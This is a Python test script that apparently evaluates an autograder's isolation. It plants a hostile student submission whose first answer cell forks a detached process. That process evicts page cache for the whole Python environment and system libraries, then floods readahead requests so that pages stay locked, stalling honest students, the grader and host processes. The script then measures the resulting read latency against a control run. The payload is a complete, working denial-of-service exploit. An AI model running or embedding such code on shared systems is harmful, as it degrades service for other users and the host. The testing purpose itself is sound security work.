"""a03: a01's page-lock inversion kept going beside honest students (--workers 2). Mallory's FIRST answer cell
forks a hog that, for HOG_S seconds, evicts pages of the whole venv and queues one readahead bio per page,
keeping about DEPTH bios (DEPTH/1000 s) in mallory's throttle queue; every queued page is locked until dispatched.
Honest students graded beside it, the grader and any host process that touch such a page wait.
Usage: a03_throttle_hog_beside.py attack|control"""
import os, sys, time, threading, random, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *

MODE = sys.argv[1] if len(sys.argv) > 1 else "attack"
DEPTH = int(os.environ.get("DEPTH", "60000"))
HOG_S = int(os.environ.get("HOG_S", "150"))
PAYLOAD = r'''
import os as _os
if _os.fork() == 0:
    import sys, time, random
    try:
        _os.setsid()
    except OSError:
        pass
    _t0 = time.time()
    _sp = [p for p in sys.path if p.endswith("site-packages")][0]
    _files = []
    for _root in [_sp, sys.base_prefix, "/usr/lib/x86_64-linux-gnu"]:
        for _d, _ds, _fs in _os.walk(_root):
            for _f in _fs:
                _p = _os.path.join(_d, _f)
                try:
                    _st = _os.stat(_p, follow_symlinks=False)
                except OSError:
                    continue
                if (_st.st_mode & 0o170000) == 0o100000 and _st.st_size > 0:
                    _files.append((_p, _st.st_size))
    random.seed(3); random.shuffle(_files)
    _issued = 0
    while time.time() - _t0 < __HOG_S__:
        for _p, _sz in _files:
            if time.time() - _t0 > __HOG_S__:
                break
            while _issued > __DEPTH__ + 1000 * (time.time() - _t0):
                time.sleep(0.05)
            try:
                _fd = _os.open(_p, _os.O_RDONLY)
            except OSError:
                continue
            try:
                _os.posix_fadvise(_fd, 0, 0, _os.POSIX_FADV_DONTNEED)
                for _off in range(0, min(_sz, 64 << 20), 4096):
                    _os.posix_fadvise(_fd, _off, 4096, _os.POSIX_FADV_WILLNEED)
                    _issued += 1
            except OSError:
                pass
            _os.close(_fd)
    _os._exit(0)
'''.replace("__DEPTH__", str(DEPTH)).replace("__HOG_S__", str(HOG_S))
if MODE == "control":
    PAYLOAD = "import os as _os\nif _os.fork() == 0:\n    import time; time.sleep(%d); _os._exit(0)" % HOG_S

course = make_course("a03" + MODE)
for s in ("aaron", "bob"):
    hand_in(course, s, honest())
hand_in(course, "mallory", hostile(prepend={"training_memory": PAYLOAD}, append={"quiz_q5": "import time as _t\n_t.sleep(110)"}))
for s in ("xena", "yuri", "zoe", "zoey"):
    hand_in(course, s, honest())

stop = False
lat = []
def probe():
    files = []
    for d, _, fs in os.walk("CLONE/.venv/lib"):
        for f in fs:
            p = os.path.join(d, f)
            if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) > 16384:
                files.append(p)
    rnd = random.Random(7)
    while not stop:
        p = rnd.choice(files)
        try:
            fd = os.open(p, os.O_RDONLY)
            sz = os.fstat(fd).st_size
            off = rnd.randrange(0, sz // 4096) * 4096
            t = time.time(); os.pread(fd, 1, off); dt = time.time() - t
            os.close(fd)
            lat.append((round(t - T0, 1), round(dt, 3), p[len("CLONE/.venv/lib/python3.11/site-packages/"):], off))
        except OSError:
            pass
        time.sleep(0.05)
T0 = time.time()
th = threading.Thread(target=probe, daemon=True); th.start()
p, dt = grade(course, extra=("--workers", "2"))
stop = True
th.join(timeout=900)
sc = scores(course)
leak_scan(course)
ls = sorted(r[1] for r in lat)
print(f"probe: reads={len(ls)} median={ls[len(ls)//2]} p99={ls[int(len(ls)*.99)]} max={ls[-1]} over1s={sum(1 for x in ls if x>1)} total_blocked={sum(ls):.1f}s")
print("slowest:", sorted(lat, key=lambda r: -r[1])[:10])
